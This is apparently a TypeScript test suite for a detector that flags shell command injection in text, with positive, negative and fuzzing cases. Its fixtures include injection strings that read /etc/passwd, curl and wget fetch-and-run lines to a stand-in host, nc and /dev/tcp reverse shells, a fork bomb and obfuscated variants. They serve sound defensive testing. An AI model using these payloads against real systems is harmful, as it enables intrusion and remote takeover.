import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { findCommand } from '../../../../src/detectors/content/lexers/shell.ts';

describe('a command given to a shell', () => {
  it.each([
    ['; cat /etc/passwd', 'cat'],
    ['127.0.0.1|id -u', 'id'],
    ['x && whoami', 'whoami'],
    ['`/usr/bin/id`', '/usr/bin/id'],
    ['$(curl http://x.example/a)', 'curl'],
    [';wget http://x.example/a -O- | sh', 'wget'],
    ["; c'a't /etc/passwd", 'cat'],
    ['; w"h"oami', 'whoami'],
    ['; wh\\oa\\mi', 'whoami'],
    [';c$@at /etc/passwd', 'cat'],
    ['& who^ami', 'whoami'],
    ['; /???/c?t /e?c/p?sswd', '/???/c?t'],
    ['|| ping -c 10 127.0.0.1', 'ping'],
    ['; sudo nc -e /bin/sh 10.0.0.1 4444', 'nc'],
  ])('is found in %s', (text, command) => {
    const found = findCommand(text);
    expect(found?.strength).toBe('sure');
    expect(found?.command).toBe(command);
  });

  it.each([
    'cat$IFS/etc/passwd',
    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
    '{cat,/etc/passwd}',
    '() { :;}; echo vulnerable',
    ':(){ :|:& };:',
    'cmd.exe /c dir',
    'powershell -enc SQBFAFgA',
    '%COMSPEC% /c dir',
    'for /f "tokens=*" %i in (\'dir\') do echo %i',
    "$'\\x63\\x61\\x74' /etc/passwd",
    '$SHELL -c "echo hi"',
  ])('needs no known command in %s', (text) => {
    expect(findCommand(text)?.strength).toBe('sure');
  });

  it.each([
    'Fish & chips; find a table for two',
    'Times & Date',
    'Jack | Jones',
    'I like cats; more or less',
    'add|adduser|check',
    'Tom &lt;date&gt; and &quot;sort&quot;',
    'Try `rm -rf vendor` and run composer again.',
    'Head of sales',
    'a=1&id=5&sort=name',
    'He waited; echo answered (twice).',
    "O'keefe's",
    'function () { return 1; }',
    'Preis: 5 $ (netto)',
    'id;title;note',
  ])('is at most weak in %s', (text) => {
    expect(findCommand(text)?.strength ?? 'weak').toBe('weak');
  });

  it('is looked for in any text without throwing, and stands inside it', () => {
    const shellish = fc.array(
      fc.constantFrom(
        ';',
        '|',
        '&',
        '`',
        '$(',
        ')',
        'cat',
        'id',
        ' ',
        '/etc/',
        '?',
        '*',
        '[',
        ']',
        "'",
        '"',
        '\\',
        '$@',
        '${IFS}',
        '${',
        '}',
        '{',
        ',',
        '\n',
        '^',
        '&lt;',
        '>',
        '~',
      ),
      { maxLength: 80 },
    );
    fc.assert(
      fc.property(
        fc.oneof(
          shellish.map((pieces) => pieces.join('')),
          fc.string({ unit: 'binary', maxLength: 200 }),
        ),
        (text) => {
          const found = findCommand(text);
          expect(found?.start ?? 0).toBeGreaterThanOrEqual(0);
          expect(found?.end ?? 0).toBeLessThanOrEqual(text.length);
        },
      ),
    );
  });

  it('ends for signs without end', () => {
    for (const piece of [';', '`', '&', '/?', '{a,', "'", '$(', 'if exist a ', '${a', '()', ' 1 equ']) {
      expect(() => findCommand(piece.repeat(30_000))).not.toThrow();
    }
  });
});
